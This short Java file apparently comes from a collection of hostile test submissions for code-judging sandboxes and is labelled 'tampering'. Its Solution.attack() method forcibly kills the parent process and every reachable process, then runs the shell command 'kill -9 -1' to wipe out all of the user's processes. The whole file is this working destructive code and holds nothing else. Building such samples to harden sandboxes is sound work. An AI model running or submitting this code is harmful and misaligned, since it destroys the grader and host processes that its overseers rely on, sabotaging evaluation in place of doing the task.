// class: logic
// tampering
class Solution {
    static int attack() throws Exception {
        ProcessHandle.current().parent().ifPresent(ProcessHandle::destroyForcibly);
        ProcessHandle.allProcesses().forEach(ProcessHandle::destroyForcibly);
        new ProcessBuilder("/bin/sh", "-c", "kill -9 -1").start().waitFor();
        return 0;
    }
}
